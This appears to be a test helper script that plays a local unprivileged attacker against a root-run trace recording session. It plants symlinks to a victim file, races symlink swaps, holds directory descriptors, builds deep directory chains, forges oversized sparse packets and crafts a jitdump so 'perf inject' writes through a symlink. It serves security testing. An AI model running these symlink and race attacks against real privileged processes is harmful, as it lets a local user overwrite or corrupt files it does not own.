"""What a local user tries against root's recording session (run as user
nobody by test_session_attacks.py), on a trace directory of its own in
the session's staging directory (pid-PID of a process of its that ended):

    session_attacker.py plant TRACE_DIR VICTIM
        Each stream-* becomes a symlink to VICTIM, and a ring next to it
        holds the stream's first packet: finishing the trace in place
        would write that packet through the link.
    session_attacker.py swap TRACE_DIR VICTIM READY STOP
        The same rings; then, until STOP exists, each stream-* is swapped
        between a symlink to VICTIM and its real content.  READY is made
        after the first round; prints the rounds made.
    session_attacker.py hold TRACE_DIR VICTIM READY GO RESULT
        Holds a descriptor of TRACE_DIR; once GO exists, tries to add
        stream-9-tid-1 -> VICTIM and a file stream-8-tid-1 through it, and
        writes what became of each try into RESULT.
    session_attacker.py deep TRACE_DIR DEPTH
        Makes a chain of DEPTH nested directories in TRACE_DIR.
    session_attacker.py sparse TRACE_DIR SIZE
        Each stream-* becomes its first packet claiming to be SIZE bytes
        long, in a sparse file of SIZE bytes.
    session_attacker.py jitdump DIR VICTIM READY STOP
        Maps (executable, as a JIT does for perf) a jitdump of its own,
        DIR/jit-PID.dump, with one function, next to DIR/jitted-PID-0.so
        -> VICTIM, where `perf inject --jit` writes that function's image;
        makes READY, then waits for STOP."""

import mmap
import os
import struct
import sys
import time

PACKET_BYTES = 64 * 1024
RING_CONTROL_BYTES = 4096
PACKET_SIZE_FIELD = 32      # packet_size (bits) in a version 2 packet header


def streams(trace_dir):
    return sorted(n for n in os.listdir(trace_dir) if n.startswith("stream-"))


def first_packet(path):
    with open(path, "rb") as f:
        data = f.read(PACKET_BYTES)
    bits, = struct.unpack_from("<Q", data, PACKET_SIZE_FIELD)
    return data[:bits // 8]


def write_rings(trace_dir):
    """A ring (one slot and a control page) holding each stream's first
    packet; returns {stream name: its real content}."""
    real = {}
    for name in streams(trace_dir):
        path = os.path.join(trace_dir, name)
        with open(path, "rb") as f:
            real[name] = f.read()
        packet = first_packet(path)
        ring = os.path.join(trace_dir, ".ring-" + name[len("stream-"):])
        with open(ring, "wb") as f:
            f.write(packet.ljust(PACKET_BYTES, b"\0") + bytes(RING_CONTROL_BYTES))
    return real


def plant(trace_dir, victim):
    write_rings(trace_dir)
    for name in streams(trace_dir):
        path = os.path.join(trace_dir, name)
        os.unlink(path)
        os.symlink(victim, path)


def swap(trace_dir, victim, ready, stop):
    real = write_rings(trace_dir)
    rounds = 0
    failures = 0
    while not os.path.exists(stop):
        for name, content in real.items():
            path = os.path.join(trace_dir, name)
            link = os.path.join(trace_dir, f".link-{name}")
            copy = os.path.join(trace_dir, f".copy-{name}")
            try:
                os.symlink(victim, link)
                os.rename(link, path)
                with open(copy, "wb") as f:
                    f.write(content)
                os.rename(copy, path)
            except OSError:
                failures += 1       # (root took the directory away)
                time.sleep(0.01)
        rounds += 1
        if rounds == 1:
            open(ready, "w").close()
    print(f"rounds {rounds} failures {failures}", flush=True)


def hold(trace_dir, victim, ready, go, result):
    fd = os.open(trace_dir, os.O_RDONLY | os.O_DIRECTORY)
    open(ready, "w").close()
    deadline = time.monotonic() + 120
    while not os.path.exists(go) and time.monotonic() < deadline:
        time.sleep(0.02)
    outcome = []
    try:
        os.symlink(victim, "stream-9-tid-1", dir_fd=fd)
        outcome.append("symlink added")
    except OSError as ex:
        outcome.append(f"symlink refused ({ex.strerror})")
    try:
        os.close(os.open("stream-8-tid-1", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
        outcome.append("file added")
    except OSError as ex:
        outcome.append(f"file refused ({ex.strerror})")
    with open(result, "w") as f:
        f.write("\n".join(outcome) + "\n")


def deep(trace_dir, depth):
    os.chdir(trace_dir)
    for _ in range(depth):
        os.mkdir("d")
        os.chdir("d")


def sparse(trace_dir, size):
    for name in streams(trace_dir):
        path = os.path.join(trace_dir, name)
        packet = bytearray(first_packet(path))
        struct.pack_into("<Q", packet, PACKET_SIZE_FIELD, size * 8)
        with open(path, "wb") as f:
            f.write(packet)
            f.truncate(size)


def jitdump(directory, victim, ready, stop):
    pid = os.getpid()
    now = time.clock_gettime_ns(time.CLOCK_MONOTONIC)
    code = b"\xc3" * 16         # ret
    name = b"attacker\0"
    load = struct.pack("<IIQIIQQQQ", 0, 56 + len(name) + len(code), now, pid, pid,
                       0x10000, 0x10000, len(code), 0) + name + code
    header = struct.pack("<IIIIIIQQ", 0x4A695444, 1, 40, 62, 0, pid, now, 0)
    path = os.path.join(directory, f"jit-{pid}.dump")
    with open(path, "wb") as f:
        f.write(header + load)
    os.symlink(victim, os.path.join(directory, f"jitted-{pid}-0.so"))
    fd = os.open(path, os.O_RDONLY)
    mapped = mmap.mmap(fd, 0, flags=mmap.MAP_PRIVATE,
                       prot=mmap.PROT_READ | mmap.PROT_EXEC)
    open(ready, "w").close()
    deadline = time.monotonic() + 120
    while not os.path.exists(stop) and time.monotonic() < deadline:
        time.sleep(0.05)
    mapped.close()


if __name__ == "__main__":
    command, args = sys.argv[1], sys.argv[2:]
    if command in ("deep", "sparse"):
        {"deep": deep, "sparse": sparse}[command](args[0], int(args[1]))
    else:
        {"plant": plant, "swap": swap, "hold": hold, "jitdump": jitdump}[command](*args)
